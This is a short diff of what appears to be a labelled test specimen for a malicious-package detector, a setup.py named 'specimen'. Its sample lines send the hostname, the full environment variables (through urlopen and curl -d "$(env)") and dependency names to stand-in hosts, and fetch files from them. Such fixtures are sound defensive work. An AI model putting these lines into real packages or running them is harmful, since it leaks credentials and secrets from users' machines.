@@ -14,4 +14,7 @@ requests.get("https://example.com/?n=" + platform.node())  # match: identity-sen
 query = urllib.parse.urlencode({"e": dict(os.environ)})
 urllib.request.urlopen("https://example.invalid/x?" + query)  # match: identity-sent
 os.system("curl -d \"$(env)\" https://example.com/in")  # match: identity-sent
+kept = [name for name in os.listdir("deps") if name.startswith("pond-")]
+urllib.request.urlretrieve("https://example.com/deps/" + kept[0], "deps/" + kept[0])  # note: identity-sent
+urllib.request.urlretrieve("https://example.com/pond.zip", os.path.join(os.getcwd(), "pond.zip"))
 setup(name="specimen")
